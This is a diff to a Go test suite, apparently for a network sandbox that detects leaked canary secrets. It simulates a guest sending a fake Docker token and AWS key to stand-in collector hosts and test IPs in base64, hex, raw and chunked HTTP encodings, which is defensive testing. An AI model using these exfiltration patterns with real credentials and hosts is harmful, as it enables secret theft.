@@ -5,6 +5,7 @@ import (
 	"encoding/base64"
 	"encoding/hex"
 	"io"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -22,7 +23,7 @@ func TestStolenSecretsAreFound(t *testing.T) {
 		t.Fatal(err)
 	}
 	g := newGuest(t, func(c *network.Config) { c.Canaries = set; c.Limits.Flows = 5 })
-	secret := set.Value(canary.AWSSecretAccessKey)
+	secret := set.Value(canary.DockerToken)
 	post := func(url, body string) {
 		t.Helper()
 		r, err := g.browser(dns.TypeA).Post(url, "application/x-www-form-urlencoded", strings.NewReader(body))
@@ -33,7 +34,9 @@ func TestStolenSecretsAreFound(t *testing.T) {
 	}
 	// Each host is asked for by a DNS flow, then dialled: the limit is exceeded on purpose.
 	post("https://collector.example/up", "d="+base64.StdEncoding.EncodeToString([]byte("aws_secret_access_key = "+secret)))
-	post("https://sts.eu-central-1.amazonaws.com/", "key="+secret)
+	post("https://auth.docker.io/token", "key="+secret)
+	post("https://bucket.s3.amazonaws.com/", set.Value(canary.AWSSecretAccessKey)) // it is never sent, not even there
+	chunked(g, "collector2.example", "token="+secret)
 	post("http://198.51.100.66:8443/", hex.EncodeToString([]byte(secret)))
 	io.WriteString(g.connect("198.51.100.67:9001"), "\x00\x01"+secret[:15])
 	raw := g.connect("198.51.100.68:9001")
@@ -57,23 +60,43 @@ func TestStolenSecretsAreFound(t *testing.T) {
 		}
 		return m
 	}
+	docker := canary.DockerToken
 	want := map[string]observation.Canary{
-		"collector.example":              {Encoding: "base64"},
-		"sts.eu-central-1.amazonaws.com": {Encoding: "raw", OwnDomain: true},
-		"198.51.100.66":                  {Encoding: "hex"},
-		"198.51.100.68":                  {Encoding: "raw"},
-		g.world.Resolver().String():      {Encoding: "hex"},
+		"collector.example":         {Name: docker, Encoding: "base64"},
+		"collector2.example":        {Name: docker, Encoding: "raw"},
+		"auth.docker.io":            {Name: docker, Encoding: "raw", OwnDomain: true},
+		"bucket.s3.amazonaws.com":   {Name: canary.AWSSecretAccessKey, Encoding: "raw"},
+		"198.51.100.66":             {Name: docker, Encoding: "hex"},
+		"198.51.100.68":             {Name: docker, Encoding: "raw"},
+		g.world.Resolver().String(): {Name: docker, Encoding: "hex"},
 	}
 	r := g.records("all secrets", func(r network.Records) bool { return len(found(r)) == len(want) })
 	for host, w := range want {
 		got := found(r)[host]
-		if got.Name != canary.AWSSecretAccessKey || got.Encoding != w.Encoding || got.OwnDomain != w.OwnDomain || len(got.Owner) == 0 {
+		if got.Name != w.Name || got.Encoding != w.Encoding || got.OwnDomain != w.OwnDomain || (len(got.Owner) == 0) != (w.Name != docker) {
 			t.Errorf("%s: %+v, want %+v", host, got, w)
 		}
 	}
 	if r.Beyond.Flows == 0 {
 		t.Error("the limit of flows did not matter")
 	}
+}
+
+// chunked sends text in chunks of five bytes (RFC 9112 §7.1).
+func chunked(g *guest, host, text string) {
+	g.Helper()
+	r, w := io.Pipe()
+	go func() {
+		for piece := range slices.Chunk([]byte(text), 5) {
+			_, _ = w.Write(piece)
+		}
+		w.Close()
+	}()
+	resp, err := g.browser(dns.TypeA).Post("http://"+host+"/", "text/plain", r)
+	if err != nil {
+		g.Fatal(err)
+	}
+	resp.Body.Close()
 }
 
 func TestLimitsHold(t *testing.T) {
